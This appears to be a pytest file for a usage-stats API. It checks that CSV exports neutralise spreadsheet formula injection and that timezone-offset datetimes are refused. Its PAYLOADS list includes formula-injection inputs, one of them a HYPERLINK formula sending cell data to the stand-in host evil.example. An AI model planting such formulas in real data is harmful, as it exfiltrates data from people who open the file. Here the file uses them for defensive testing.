"""GET /usage/stats: the CSV export never writes a cell a spreadsheet would run as a formula
(user ids and cost centers are any client's text), and `from`/`to` take days only (a
datetime's offset would otherwise be dropped, answering another window than asked)."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from tests.api.helpers import API, auth, create_account, issue_key

STATS = f"{API}/usage/stats"
BATCH = f"{API}/usage/batch"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@pytest.fixture
async def owner(client: httpx.AsyncClient, admin_key: str) -> dict[str, Any]:
    account = await create_account(client, admin_key)
    key = await issue_key(client, admin_key, account["id"])
    return {"account": account, "key": key}


@pytest.mark.parametrize("group_by", ["user", "cost_center"])
async def test_csv_cells_never_start_a_formula(
    client: httpx.AsyncClient, owner: dict[str, Any], group_by: str
) -> None:
    events = [
        {"model": "gpt-4o", "input_tokens": 10, "user_id": p, "cost_center": p} for p in PAYLOADS
    ]
    r = await client.post(BATCH, json={"events": events}, headers=auth(owner["key"]))
    assert r.json()["accepted"] == len(PAYLOADS), r.text
    r = await client.get(
        STATS,
        params={"from": "2026-01-01", "to": "2026-02-01", "group_by": group_by, "format": "csv"},
        headers=auth(owner["key"]),
    )
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], f"formula cells exported: {dangerous}"
    assert "'@SUM(A1:A9)" in cells  # kept, made inert


async def test_a_datetime_with_an_offset_is_refused_for_a_day(
    client: httpx.AsyncClient, owner: dict[str, Any]
) -> None:
    # 2026-01-29T20:00Z is inside [2026-01-30T00:00+05:00, ...) = [2026-01-29T19:00Z, ...).
    event = {"model": "gpt-4o", "input_tokens": 10, "timestamp": "2026-01-29T20:00:00Z"}
    r = await client.post(BATCH, json={"events": [event]}, headers=auth(owner["key"]))
    assert r.json()["accepted"] == 1
    r = await client.get(
        STATS,
        params={"from": "2026-01-30T00:00:00+05:00", "to": "2026-02-01", "group_by": "model"},
        headers=auth(owner["key"]),
    )
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
